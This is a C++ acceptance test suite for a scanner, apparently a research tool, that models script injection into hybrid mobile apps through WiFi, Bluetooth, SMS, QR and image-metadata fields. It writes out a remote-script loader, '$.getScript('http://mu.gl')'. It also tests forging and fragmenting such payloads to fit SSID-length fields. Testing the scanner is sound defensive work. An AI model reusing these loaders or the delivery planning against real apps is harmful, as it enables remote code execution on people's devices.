// Acceptance suite: one check per release criterion, each printed as a
// PASS/FAIL line. Exits nonzero when any criterion fails.
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <functional>
#include <iostream>
#include <map>
#include <random>
#include <sstream>
#include <vector>

#include "hybridscan/channel_catalog.hpp"
#include "hybridscan/js_analysis.hpp"
#include "hybridscan/payload_forge.hpp"
#include "hybridscan/plugin_auditor.hpp"
#include "hybridscan/sink_model.hpp"

using namespace hybridscan;
namespace fs = std::filesystem;

namespace {

const std::string kFixtures = HYBRIDSCAN_FIXTURES_DIR;
const std::string kCli = HYBRIDSCAN_CLI_PATH;

struct Harness {
  int failures = 0;
  std::vector<std::string> notes;

  void check(bool ok, const std::string& what) {
    if (!ok) {
      ++failures;
      notes.push_back(what);
    }
  }
};

using Criterion = std::function<void(Harness&)>;

bool run_criterion(int number, const std::string& title, double budget_seconds,
                   const Criterion& body) {
  Harness harness;
  auto start = std::chrono::steady_clock::now();
  try {
    body(harness);
  } catch (const std::exception& e) {
    harness.check(false, std::string("exception: ") + e.what());
  }
  double elapsed =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
          .count();
  if (budget_seconds > 0) {
    harness.check(elapsed < budget_seconds,
                  "runtime " + std::to_string(elapsed) + "s exceeds budget " +
                      std::to_string(budget_seconds) + "s");
  }
  bool ok = harness.failures == 0;
  std::printf("%s  criterion %d: %s  (%.2fs)\n", ok ? "PASS" : "FAIL", number,
              title.c_str(), elapsed);
  for (const std::string& note : harness.notes) {
    std::printf("      - %s\n", note.c_str());
  }
  return ok;
}

std::vector<std::string> corpus_apps() {
  std::vector<std::string> roots;
  for (const auto& entry : fs::directory_iterator(kFixtures + "/apps")) {
    if (entry.is_directory()) roots.push_back(entry.path().string());
  }
  std::sort(roots.begin(), roots.end());
  return roots;
}

std::string run_process(const std::string& command) {
  std::string output;
  FILE* pipe = popen(command.c_str(), "r");
  if (pipe == nullptr) return output;
  char buffer[4096];
  size_t n = 0;
  while ((n = fread(buffer, 1, sizeof(buffer), pipe)) > 0) {
    output.append(buffer, n);
  }
  pclose(pipe);
  return output;
}

// ---------------------------------------------------------------------------

void criterion_activation_matrix(Harness& h) {
  const std::map<std::string, std::pair<bool, bool>> expected = {
      {"document.write()", {true, true}},
      {"appendChild()", {true, true}},
      {"innerHTML/outerHTML", {false, true}},
      {"innerText/outerText", {false, false}},
      {"textContent", {false, false}},
      {"html()", {true, true}},
      {"append/prepend()", {true, true}},
      {"before/after()", {true, true}},
      {"add()", {true, true}},
      {"replaceAll/replaceWith()", {true, true}},
      {"text()", {false, false}},
  };
  std::vector<ActivationCell> matrix = activation_matrix();
  h.check(matrix.size() == 11, "matrix must have 11 rows");
  int cells_checked = 0;
  for (const ActivationCell& cell : matrix) {
    auto it = expected.find(cell.sink_name);
    if (it == expected.end()) {
      h.check(false, "unexpected sink row " + cell.sink_name);
      continue;
    }
    h.check(cell.script_tag_triggers == it->second.first,
            cell.sink_name + " script-tag cell");
    h.check(cell.event_attribute_triggers == it->second.second,
            cell.sink_name + " event-attribute cell");
    cells_checked += 2;
  }
  h.check(cells_checked == 22, "all 22 cells compared");
}

void criterion_loader_lengths(Harness& h) {
  Payload jquery = make_loader("http://mu.gl", LoaderStyle::JQueryGetScript);
  h.check(jquery.length == 45, "getScript form must be exactly 45 chars, got " +
                                   std::to_string(jquery.length));
  h.check(jquery.length == static_cast<int>(jquery.markup.size()),
          "getScript length equals character count");

  Payload dynamic = make_loader("http://mu.gl", LoaderStyle::ImgOnErrorDynamic);
  h.check(dynamic.length == 99, "dynamic script-block form must be exactly "
                                "99 chars, got " +
                                    std::to_string(dynamic.length));

  Payload script = make_loader("//mu.gl", LoaderStyle::ScriptTagLoader);
  int counted = 0;
  for (size_t i = 0; i < script.markup.size(); ++i) ++counted;
  h.check(script.length == counted,
          "script-tag loader reports the computed count");
  h.check(counted == 29, "computed count of the emitted form is 29");
  h.check(script.note.find("28") != std::string::npos,
          "the one-shorter figure (28) is documented in the report note");
}

void criterion_fragmentation(Harness& h) {
  const std::string charset =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
      "$_.;:+-*/%()[]{}'=!&|,<";
  std::mt19937 rng(424243u);
  std::uniform_int_distribution<size_t> pick(0, charset.size() - 1);
  std::uniform_int_distribution<int> length_dist(10, 500);
  std::uniform_int_distribution<int> limit_dist(20, 250);
  SinkKind inner_html = *classify_sink("innerHTML");

  int successes = 0;
  for (int trial = 0; trial < 1000; ++trial) {
    int length = length_dist(rng);
    int limit = limit_dist(rng);
    std::string code;
    for (int i = 0; i < length; ++i) code += charset[pick(rng)];
    std::vector<Fragment> fragments;
    try {
      fragments = fragment_payload(code, limit);
    } catch (const LimitTooSmallError&) {
      if (limit >= 27) {
        h.check(false, "trial " + std::to_string(trial) +
                           ": limit " + std::to_string(limit) +
                           " should be forgeable");
      }
      continue;
    }
    ++successes;

    bool fit = true;
    for (const Fragment& f : fragments) fit = fit && f.length <= limit;
    bool reassembles = reassemble(fragments) == code;
    int max_index = -1;
    int trigger_index = -1;
    int triggering = 0;
    for (const Fragment& f : fragments) {
      max_index = std::max(max_index, f.index);
      if (f.role == FragmentRole::Trigger || f.role == FragmentRole::Direct) {
        ++triggering;
        trigger_index = f.index;
      }
    }
    bool trigger_last = triggering == 1 && trigger_index == max_index;
    if (!fit || !reassembles || !trigger_last) {
      h.check(false, "trial " + std::to_string(trial) + ": fit=" +
                         std::to_string(fit) + " reassembly=" +
                         std::to_string(reassembles) + " trigger_last=" +
                         std::to_string(trigger_last));
      continue;
    }

    // Every forge output plans onto a timed single-field channel of the
    // same width and must verify through the emulator.
    Channel timed{"WiFi", {FieldSpec{"SSID", limit, false}},
                  Delivery::SingleFieldTimed};
    InjectionPlan plan = plan_injection(fragments, timed);
    bool ordered = plan.assignments.back().fragment_index == max_index;
    VerificationResult vr = verify_plan(plan, inner_html);
    if (!ordered || !vr.verified) {
      h.check(false, "trial " + std::to_string(trial) +
                         ": plan verification failed: " + vr.reason);
    }
  }
  h.check(successes >= 500, "enough forgeable samples, got " +
                                std::to_string(successes));

  // The published example: the 27-character getScript code at limit 32.
  std::vector<Fragment> canonical =
      fragment_payload("$.getScript('http://mu.gl')", 32);
  int pieces = 0;
  int triggers = 0;
  bool all_fit = true;
  for (const Fragment& f : canonical) {
    if (f.role == FragmentRole::Piece) ++pieces;
    if (f.role == FragmentRole::Trigger) ++triggers;
    all_fit = all_fit && f.length <= 32;
  }
  h.check(pieces >= 4, "canonical split yields >= 4 pieces, got " +
                           std::to_string(pieces));
  h.check(triggers == 1, "canonical split has one trigger");
  h.check(all_fit, "every canonical fragment is 32 chars or less");
  h.check(reassemble(canonical) == "$.getScript('http://mu.gl')",
          "canonical chunks reassemble to the code");
}

void criterion_channel_limits(Harness& h) {
  std::vector<Channel> channels = builtin_channels();
  auto channel = [&](const std::string& name) -> const Channel* {
    for (const Channel& c : channels) {
      if (c.name == name) return &c;
    }
    return nullptr;
  };
  struct BoundCase {
    const char* channel;
    const char* field;
    int limit;
  };
  const BoundCase cases[] = {
      {"WiFi", "SSID", 32},
      {"Bluetooth", "DeviceName", 248},
      {"SMS", "MessageBody", 140},
      {"JPEG", "Model", 32},
      {"JPEG", "Maker", 42},
  };
  for (const BoundCase& c : cases) {
    const Channel* ch = channel(c.channel);
    if (ch == nullptr) {
      h.check(false, std::string("missing channel ") + c.channel);
      continue;
    }
    const FieldSpec* field = ch->find_field(c.field);
    if (field == nullptr) {
      h.check(false, std::string(c.channel) + " missing field " + c.field);
      continue;
    }
    h.check(field->max_length == c.limit,
            std::string(c.channel) + "." + c.field + " limit " +
                std::to_string(c.limit));
    h.check(!field->lower_bound_only,
            std::string(c.channel) + "." + c.field + " is a hard bound");
    std::string at_limit(static_cast<size_t>(c.limit), 'a');
    std::string over(static_cast<size_t>(c.limit) + 1, 'a');
    h.check(validate_value(*ch, c.field, at_limit).ok(),
            std::string(c.channel) + "." + c.field + " accepts the boundary");
    h.check(validate_value(*ch, c.field, over).status ==
                ValidationStatus::Violation,
            std::string(c.channel) + "." + c.field + " rejects limit+1");
  }
  // Lower-bound-only fields: NFC, QRCode, media metadata.
  for (const char* name : {"NFC", "QRCode"}) {
    const Channel* ch = channel(name);
    const FieldSpec* field = ch == nullptr ? nullptr : ch->find_field("Content");
    h.check(field != nullptr && field->lower_bound_only &&
                field->max_length == 2000,
            std::string(name) + ".Content recorded as at-least-2000");
  }
}

void criterion_case_studies(Harness& h) {
  ScanReport bt = scan_app(kFixtures + "/apps/bt-showcase");
  h.check(bt.verdict == Verdict::Vulnerable,
          "bluetooth showcase app flagged vulnerable");
  bool bt_confirmed = false;
  for (const Finding& f : bt.findings) {
    if (f.confidence == Confidence::Confirmed &&
        f.source.channel == "Bluetooth" &&
        f.sink.sink.api_name == "innerHTML/outerHTML") {
      bt_confirmed = true;
    }
  }
  h.check(bt_confirmed, "confirmed Bluetooth -> innerHTML finding");

  ScanReport barcode = scan_app(kFixtures + "/apps/barcode-rewards");
  h.check(barcode.verdict == Verdict::Vulnerable,
          "barcode app flagged vulnerable");
  bool barcode_confirmed = false;
  for (const Finding& f : barcode.findings) {
    if (f.confidence == Confidence::Confirmed &&
        f.source.channel == "QRCode") {
      barcode_confirmed = true;
    }
  }
  h.check(barcode_confirmed, "confirmed barcode -> innerHTML finding");

  ScanReport bt_safe = scan_app(kFixtures + "/apps/bt-showcase-sanitized");
  h.check(bt_safe.findings.empty() &&
              bt_safe.verdict == Verdict::NotVulnerable,
          "sanitized bluetooth twin yields zero findings");
  ScanReport barcode_safe =
      scan_app(kFixtures + "/apps/barcode-rewards-sanitized");
  h.check(barcode_safe.findings.empty() &&
              barcode_safe.verdict == Verdict::NotVulnerable,
          "sanitized barcode twin yields zero findings");

  std::vector<std::string> roots = corpus_apps();
  h.check(roots.size() >= 10, "synthetic corpus has at least 10 apps");
  CorpusStats stats = corpus_stats(roots);
  h.check(stats.reads_channels >= stats.both_conditions,
          "funnel containment: c1 >= c1&c2");
  h.check(stats.both_conditions >= stats.all_three,
          "funnel containment: c1&c2 >= all three");
  h.check(stats.all_three >= 1, "the corpus contains confirmed apps");
}

void criterion_plugin_taxonomy(Harness& h) {
  std::vector<std::string> roots;
  for (const auto& entry :
       fs::directory_iterator(kFixtures + "/plugins")) {
    if (entry.is_directory()) roots.push_back(entry.path().string());
  }
  std::sort(roots.begin(), roots.end());
  h.check(roots.size() >= 10, "plugin fixture set has at least 10 plugins");

  std::vector<PluginProfile> profiles;
  for (const std::string& root : roots) profiles.push_back(build_profile(root));

  std::map<PluginCategory, int> counts = taxonomy_counts(profiles);
  int total = 0;
  for (const auto& [category, count] : counts) total += count;
  h.check(total == static_cast<int>(profiles.size()),
          "every plugin lands in exactly one category");
  for (const PluginProfile& profile : profiles) {
    bool no_data = classify_plugin(profile) == PluginCategory::NoData;
    h.check(no_data == !profile.returns_data,
            profile.name + ": NoData iff no returned data");
  }

  // Seeded vulnerable displays are found, library-only audits stay clean.
  int displays_found = 0;
  for (const PluginProfile& profile : profiles) {
    CompanionAuditResult audit = audit_companion_js(profile);
    for (const VulnerableDisplay& d : audit.vulnerable_displays) {
      ++displays_found;
      h.check(d.sink_api == "innerHTML/outerHTML" || d.sink_api == "html()",
              profile.name + ": display sink is innerHTML or html()");
    }
    if (profile.name == "WifiScanner") {
      h.check(audit.vulnerable_displays.empty() &&
                  audit.purpose == CompanionPurpose::Library,
              "library-only wifi plugin audits clean");
    }
    if (profile.name == "BluetoothDiscovery") {
      h.check(audit.vulnerable_displays.size() == 1,
              "bluetooth sample display is reported");
    }
    if (profile.name == "SmsReceiver") {
      h.check(audit.vulnerable_displays.size() == 1,
              "sms sample display is reported");
    }
  }
  h.check(displays_found == 2,
          "exactly the two seeded displays are reported, got " +
              std::to_string(displays_found));
}

void criterion_determinism(Harness& h) {
  std::string command = "\"" + kCli + "\" scan";
  for (const std::string& root : corpus_apps()) {
    command += " \"" + root + "\"";
  }
  command += " --deterministic --format json 2>/dev/null";
  std::string first = run_process(command);
  std::string second = run_process(command);
  h.check(!first.empty(), "scan produced output");
  h.check(first == second, "consecutive runs are byte-identical");
}

}  // namespace

int main() {
  int failed = 0;
  failed += !run_criterion(1, "display-sink activation matrix fidelity", 1.0,
                           criterion_activation_matrix);
  failed += !run_criterion(2, "loader payload lengths", 0.0,
                           criterion_loader_lengths);
  failed += !run_criterion(3, "fragmentation property suite", 30.0,
                           criterion_fragmentation);
  failed += !run_criterion(4, "channel length-limit fidelity", 0.0,
                           criterion_channel_limits);
  failed += !run_criterion(5, "case-study reproduction and funnel", 10.0,
                           criterion_case_studies);
  failed += !run_criterion(6, "plugin taxonomy and companion audit", 0.0,
                           criterion_plugin_taxonomy);
  failed += !run_criterion(7, "deterministic scan output", 0.0,
                           criterion_determinism);
  if (failed > 0) {
    std::printf("%d criterion(s) failed\n", failed);
    return 1;
  }
  std::printf("all criteria passed\n");
  return 0;
}
